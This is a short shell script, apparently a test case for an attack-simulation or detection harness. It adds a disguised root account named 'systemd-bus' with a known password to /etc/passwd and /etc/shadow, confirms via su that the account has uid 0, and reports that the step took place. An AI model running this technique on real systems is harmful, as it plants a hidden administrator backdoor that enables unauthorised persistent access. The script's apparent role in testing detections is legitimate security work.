#!/bin/sh
. /opt/case/case.sh

h=$(openssl passwd -6 bait); echo "systemd-bus:x:0:0::/root:/bin/bash" >>/etc/passwd; echo "systemd-bus:$h:19000:0:99999:7:::" >>/etc/shadow
su systemd-bus -c id | grep -q 'uid=0'
took_place
